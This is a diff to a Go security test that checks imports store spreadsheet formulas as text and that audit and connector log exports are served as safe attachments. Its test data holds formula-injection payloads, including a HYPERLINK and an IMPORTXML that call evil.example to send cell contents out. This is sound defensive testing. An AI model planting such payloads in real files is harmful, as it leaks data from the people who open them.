@@ -25,8 +25,9 @@ var formulas = []string{
 	`=HYPERLINK("https://evil.example?x="&A1,"Error")`, `=IMPORTXML("https://evil.example","//a")`, "|calc", "%0A=1+1",
 }
 
-// TestImport_FormulasStayText checks that an import stores formulas as text, and that the audit log is not exported as
-// a spreadsheet: it has one JSON object a line.
+// TestImport_FormulasStayText checks that an import stores formulas as text, and that the exports of the logs are files
+// to be saved, whose lines a text cannot forge. That formulas in them are marked, settings.TestAudit_CSVMarksFormulas
+// shows.
 func TestImport_FormulasStayText(t *testing.T) {
 	p, e := newAttack(t)
 	api := p.In(e.Workspace, e.Token)
@@ -66,7 +67,12 @@ func TestImport_FormulasStayText(t *testing.T) {
 	if answer := api.Get(t, harness.ListPath+"/imports/"+rejected); strings.Contains(string(answer.Body), "=1+1") {
 		t.Errorf("the report of an import echoes its cells:\n%s", answer)
 	}
+	exportsLogs(t, p, e)
+}
 
+// exportsLogs writes formulas to the audit log, and exports the logs.
+func exportsLogs(t *testing.T, p *harness.Product, e *target) {
+	t.Helper()
 	for _, formula := range formulas {
 		p.Database.Exec(
 			t,
@@ -77,14 +83,21 @@ func TestImport_FormulasStayText(t *testing.T) {
 			formula,
 		)
 	}
-	export := e.person.Open(t, p.AppURL+"/settings/audit.jsonl?tenant="+e.Workspace.ID)
-	export.Wants(t, http.StatusOK).WantsHeader(t, "X-Content-Type-Options", "nosniff")
-	if !strings.HasPrefix(export.Header.Get("Content-Disposition"), "attachment; ") ||
-		!strings.HasPrefix(export.Header.Get("Content-Type"), "application/jsonl") {
-		t.Errorf("the export may be opened as something else: %v", export.Header)
+	bodies := map[string][]byte{}
+	for path, kind := range map[string]string{
+		"/settings/audit.jsonl": "application/jsonl", "/settings/audit.csv": "text/csv",
+		"/settings/connectors/log.csv": "text/csv",
+	} {
+		export := e.person.Open(t, p.AppURL+path+"?tenant="+e.Workspace.ID)
+		export.Wants(t, http.StatusOK).WantsHeader(t, "X-Content-Type-Options", "nosniff")
+		if !strings.HasPrefix(export.Header.Get("Content-Disposition"), "attachment; ") ||
+			!strings.HasPrefix(export.Header.Get("Content-Type"), kind) {
+			t.Errorf("%s may be opened as something else: %v", path, export.Header)
+		}
+		bodies[path] = export.Body
 	}
 	lines := 0
-	for scanner := bufio.NewScanner(bytes.NewReader(export.Body)); scanner.Scan(); lines++ {
+	for scanner := bufio.NewScanner(bytes.NewReader(bodies["/settings/audit.jsonl"])); scanner.Scan(); lines++ {
 		var line map[string]any
 		if err := json.Unmarshal(scanner.Bytes(), &line); err != nil || line["action"] == "forged" {
 			t.Errorf("a line of the export is forged or not JSON: %s", harness.Redact(scanner.Text()))
